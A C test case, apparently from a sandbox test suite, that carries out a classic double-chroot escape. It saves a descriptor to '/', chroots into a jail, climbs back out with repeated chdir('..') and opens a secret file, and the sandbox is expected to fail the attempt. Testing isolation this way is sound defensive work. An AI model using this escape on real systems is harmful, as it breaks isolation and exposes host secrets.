/* SPDX-License-Identifier: LGPL-2.1-or-later
 *
 * Attack: leaves a second root behind by a descriptor opened before, and climbs by it to the host's root
 * Barrier: own-root
 * Arguments: {secret-file}
 * Verdict: runtime-error
 * Trace: secret */
#include "attack.h"
#include <sys/stat.h>

ATTACK(double_chroot) {
        int fd;

        fd = open("/", O_RDONLY | O_DIRECTORY);
        if (fd < 0)
                return broken("open");
        (void) mkdir("jail", 0700);
        (void) tried("chroot", chroot("jail"));
        if (fchdir(fd) < 0)
                return broken("fchdir");

        for (int i = 0; i < 50; i++)
                (void) chdir("..");
        return outcome(tried("open", open(argv[1] + 1, O_RDONLY)));
}
